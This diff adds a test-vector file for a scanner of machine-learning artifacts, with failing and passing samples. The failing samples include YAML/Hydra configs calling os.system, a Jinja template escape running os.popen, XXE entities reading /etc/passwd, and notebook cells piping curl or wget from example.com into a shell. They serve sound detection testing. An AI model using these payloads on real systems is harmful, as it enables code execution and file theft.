@@ -1,0 +1,143 @@
+"""Vectors of texts that programs act on: configurations, templates, XML, requirements, notebooks."""
+
+from __future__ import annotations
+
+import json
+
+from vector import Vector
+
+
+def notebook(source: str, kind: str = "code") -> bytes:
+    """Return a notebook of one cell."""
+    cell = {"cell_type": kind, "metadata": {}, "source": [source]}
+    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}).encode()
+
+
+def config(**members: object) -> bytes:
+    """Return a Hugging Face configuration with more members."""
+    return json.dumps({"model_type": "bert", "architectures": ["BertModel"]} | members).encode()
+
+
+CHAT = "{% for message in messages %}<|{{ message['role'] }}|>{{ message.content | trim }}{% endfor %}"
+ESCAPE = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
+MODULES = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]
+
+RULES: dict[str, dict[str, dict[str, bytes]]] = {
+    "config-dangerous-callable": {
+        "fail": {
+            "hydra.yaml": b"model:\n  _target_: os.system\n  command: id\n",
+            "hydra-through-nemo.yaml": b"model:\n  _target_: nemo.core.os.system\n",
+            "hydra.json": b'{"model": {"_target_": "subprocess.Popen", "args": ["id"]}}',
+            "escaped-key.json": b'{"model": {"\\u005ftarget_": "subprocess.Popen"}}',
+            "apply.yaml": b"!!python/object/apply:os.system [id]\n",
+            "apply-verbatim.yaml": b"x: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n",
+            "apply-escaped.yaml": b"x: !!%70ython/object/apply:os.system [id]\n",
+            "apply-by-directive.yaml": b"%TAG !x! tag:yaml.org,2002:python/object/\n---\nx: !x!apply:os.system [id]\n",
+            "module.yaml": b"x: !!python/module:antigravity\n",
+            "mlflow-loader.yaml": b"flavors:\n  python_function:\n    loader_module: subprocess\n",
+            "modules.json": json.dumps([MODULES[0] | {"type": "os.system"}]).encode(),
+            "peft.json": b'{"auto_mapping": {"parent_library": "os.system"}}',
+        },
+        "pass": {
+            "hydra.yaml": b"model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n  x: 1\n",
+            "namespace.yaml": b"!!python/object:argparse.Namespace\nlr: 0.1\n",
+            "tuple.yaml": b"x: !!python/tuple [1, 2]\n",
+            "mlflow-loader.yaml": b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n",
+            "modules.json": json.dumps(MODULES).encode(),
+            "a-text-that-speaks-of-it.md": b"# Notes\n\nnever write `_target_` os.system or !!python/object/apply\n",
+        },
+    },
+    "config-unknown-callable": {
+        "fail": {
+            "hydra.yaml": b"model:\n  _target_: my_package.launch\n",
+            "function-of-a-known-library.yaml": b"model:\n  _target_: nemo.utils.launch\n",
+            "object.yaml": b"!!python/object:my_package.Thing\nlr: 0.1\n",
+            "mlflow-loader.yaml": b"flavors:\n  python_function:\n    loader_module: model_loader\n",
+            "modules.json": json.dumps([MODULES[0] | {"type": "custom_st.Transformer"}]).encode(),
+        },
+        "pass": {"hydra.yaml": b"optim:\n  _target_: torch.optim.AdamW\n  lr: 0.1\n"},
+    },
+    "config-remote-code": {
+        "fail": {
+            "auto-map.json": config(auto_map={"AutoModel": "modeling_custom.CustomModel"}),
+            "pipelines.json": config(custom_pipelines={"x": {"impl": "pipeline.P", "pt": ["AutoModel"]}}),
+            "asked-for.yaml": b"model: m\ntrust_remote_code: true\n",
+        },
+        "pass": {"plain.json": config(), "refused.yaml": b"model: m\ntrust_remote_code: false\n"},
+    },
+    "template-reaches-python": {
+        "fail": {
+            "template.jinja": CHAT.encode() + ESCAPE.encode(),
+            "tokenizer_config.json": config(chat_template=CHAT + ESCAPE),
+            "list.json": config(chat_template=[{"name": "default", "template": CHAT + ESCAPE}]),
+            "subscript.jinja": b"{{ ''['__class__']['__base__'] }}",
+            "escaped-subscript.jinja": rb"{{ ''['\x5f\x5fclass\x5f\x5f'] }}",
+        },
+        "pass": {
+            "template.jinja": CHAT.encode(),
+            "tokenizer_config.json": config(chat_template=CHAT),
+            "text-beside-code.jinja": b"{% if x %}never say __globals__ or os.popen('id')!{% endif %}",
+            "prose.md": b"# How an escape looks\n\n```\n" + ESCAPE.encode() + b"\n```\n",
+        },
+    },
+    "template-hides-names": {
+        "fail": {
+            "attr.jinja": b"{{ x|attr(y) }}",
+            "include.jinja": b"{% include 'other.jinja' %}{{ x }}",
+        },
+        "pass": {"map.jinja": b"{{ tools|map(attribute='name')|join(', ') }}"},
+    },
+    "xml-entities": {
+        "fail": {
+            "external.pmml": b'<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<PMML>&x;</PMML>',
+            "laughs.xml": b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><a>&b;</a>',
+            "parameter.xml": b"<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://example.com/x.dtd'> %p;]><a/>",
+            "include.xml": b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>',
+        },
+        "pass": {
+            "model.pmml": b'<?xml version="1.0"?>\n<PMML xmlns="http://www.dmg.org/PMML-4_4"><Header/></PMML>',
+            "page.html": b"<!DOCTYPE html>\n<html><body>&lt;!ENTITY x&gt;</body></html>",
+            "one-text.xml": b'<!DOCTYPE a [<!ENTITY a "ha">]><a>&a;</a>',
+        },
+    },
+    "requirements-source": {
+        "fail": {
+            "index.txt": b"numpy==2.4.6\n--index-url http://packages.example/simple\n",
+            "git.txt": b"numpy==2.4.6\ngit+https://example.com/tool\n",
+            "direct.txt": b"tool @ https://example.com/tool.whl\n",
+            "conda.yaml": b"channels: [x]\ndependencies:\n- python=3.11\n- pip:\n  - git+https://example.com/tool\n",
+        },
+        "pass": {
+            "plain.txt": b"numpy==2.4.6\nscikit-learn>=1.7  # see https://example.com/\n",
+            "publisher.txt": b"--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.13.0\n",
+            "conda.yaml": b"channels: [x]\ndependencies:\n- python=3.11\n- pip:\n  - mlflow==3.0.0\n",
+            "prose.txt": b"See https://example.com/ and then install it.\nYou need git+https to do so.\n",
+        },
+    },
+    "notebook-runs-hidden-code": {
+        "fail": {
+            "piped.ipynb": notebook("!curl -s https://example.com/x | sh"),
+            "decoded.ipynb": notebook("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"),
+            "aliased.ipynb": notebook("from base64 import b64decode as b\nexec(b('cHJpbnQoMSk='))"),
+            "system.ipynb": notebook("import os as o\no.system('wget -qO- http://example.com/x | bash')"),
+        },
+        "pass": {
+            "ordinary.ipynb": notebook("!pip install numpy\nimport os\nos.system('ls')\n%matplotlib inline"),
+            "told.ipynb": notebook("never run: curl -s https://example.com/x | sh", kind="markdown"),
+        },
+    },
+}
+
+FORMATS = (
+    Vector("text", "plain", b"hello\n", "a text that nothing acts on"),
+    Vector("text", "config", config(auto_map={}), "a configuration with a telling word"),
+    Vector("text", "not-json", b'{"auto_map": ', "broken JSON is text, which no JSON reader opens"),
+    Vector("text", "aliases", b"_target_: &a [1]\nb: [*a, *a]\n", "YAML with aliases"),
+    Vector("text", "deep", b'{"type": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "nested deep", (), "too deep"),
+    Vector("text", "twice", b'{"auto_map": 1, "auto_map": 2}', "a key twice", (), "stand there twice"),
+    Vector(
+        "text", "deep-yaml", b"_target_: x\na: " + b"[" * 100 + b"]" * 100, "YAML nested deep", (), "deeper, than is"
+    ),
+    Vector("text", "tag-then-broken", b"x: !!python/name:a.b ''\ny: [1\n", "a tag before a fault", (), "not YAML"),
+)
+READERS = {"text": "hauberk.formats.text.plain"}
